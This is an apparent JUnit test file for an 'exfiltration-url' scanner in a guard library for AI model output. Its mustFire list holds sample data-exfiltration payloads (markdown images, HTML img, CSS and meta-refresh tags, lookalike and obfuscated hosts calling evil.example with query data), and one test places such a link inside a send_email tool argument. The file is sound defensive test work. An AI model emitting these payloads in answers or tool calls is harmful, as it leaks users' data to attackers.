package dev.redoubt.guard.engine.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.redoubt.core.UsageException;
import dev.redoubt.guard.engine.Caller;
import dev.redoubt.guard.engine.Exchange;
import dev.redoubt.guard.engine.Guard;
import dev.redoubt.guard.engine.ScannerContract;
import dev.redoubt.guard.engine.Text;
import dev.redoubt.guard.engine.ToolCallView;
import dev.redoubt.guard.engine.Verdict;
import java.util.List;
import org.junit.jupiter.api.Test;

class ExfiltrationUrlTest extends ScannerContract {
  private static final Exchange EXCHANGE =
      Exchange.of(
          Caller.ANONYMOUS, Text.user("What is https://typed.example/page ? Show it as an image."));

  @Override
  protected String scanner() {
    return "exfiltration-url";
  }

  @Override
  protected String options() {
    return "{allow: [help.acme.example, \"*.cdn.acme.example\", \"127.0.0.1:8080\"]}";
  }

  @Override
  protected Verdict check(Guard guard, String sample) {
    return guard.checkAnswer(EXCHANGE, sample);
  }

  @Override
  protected List<String> mustFire() {
    return List.of(
        "See www.evil.example/?d=1 for it",
        "![x](https://stra\u00DFe.acme.example/?d=1)",
        "<style>a{background:url(//evil.example/?d=1)}</style>",
        "<style>@import '//evil.example/?d=1';</style>",
        "<meta http-equiv=refresh content='0;url=//evil.example/?d=1'>",
        "Here: ![x](https://evil.example/p.png?d=SGVsbG8)",
        "Here: ![x](http://127.0.0.1:9999/p?d=1)",
        "Here: ![x](//evil.example/p)",
        "Here: ![x](<https://evil.example/p q>)",
        "See [help](https://evil.example/?q=secret)",
        "See [help](https://help.acme.example@evil.example/)",
        "See [help](https://help.acme.example.evil.example/)",
        "See [help](https://helpacme.example/)",
        "See [help](https://help-acme.example/)",
        "See [help](https://acme.example/)",
        "See [help](https://hеlp.acme.example/)",
        "See [help](https://cdn.acme.example/)",
        "![x][1]\n\n[1]: https://evil.example/p.png?d=1",
        "<img src=\"https://evil.example/p.png\">",
        "<img src='//evil.example/p.png'>",
        "<a href=\"https://evil.example/\">x</a>",
        "<img src=&#104;ttps://evil.example/p.png>",
        "Go to https://evil.example/x now",
        "![x](https://typed.example/page)",
        "![x](http://2130706433:8081/p)");
  }

  @Override
  protected List<String> mustNotFire() {
    return List.of(
        "See https://help.acme.example/returns for more.",
        "See [our page](https://help.acme.example/returns?from=chat).",
        "![logo](https://static.cdn.acme.example/logo.png)",
        "![chart](http://127.0.0.1:8080/chart.png)",
        "See [orders](/orders/17) and [top](#top).",
        "No link at all. Costs 3.50 EUR.");
  }

  @Override
  protected List<String> nearMisses() {
    return List.of(
        "See https://HELP.acme.example./returns",
        "You asked about https://typed.example/page : it is a shop.",
        "Write 1:2 or a.b or x//y, or file.txt",
        "[not a link] (just brackets)");
  }

  @Test
  void takesOutTheWholeConstructAndLeavesTheRest() {
    Verdict verdict = check(guard("rewrite"), "Done. ![x](https://evil.example/?d=1) Bye.");
    assertThat(verdict)
        .isInstanceOfSatisfying(
            Verdict.Rewrite.class,
            r -> assertThat(r.text()).isEqualTo("Done. [image removed] Bye."));
  }

  @Test
  void toolArgumentsAreRefused() {
    var call =
        new ToolCallView("send_email", "{\"body\": \"![x](https:\\/\\/evil.example\\/?d=1)\"}");
    assertThat(guard("rewrite").checkToolCall(EXCHANGE, call)).isInstanceOf(Verdict.Block.class);
  }

  @Test
  void refusesEntriesThatAreNoHosts() {
    assertThatThrownBy(
            () -> policy("rewrite", "{allow: [\"https://a.example/x\", \"*\", \"*.org\"]}"))
        .isInstanceOf(UsageException.class)
        .hasMessageContaining("with.allow[0]: is no host")
        .hasMessageContaining("with.allow[1]: is no host")
        .hasMessageContaining("with.allow[2]: is no host");
  }
}
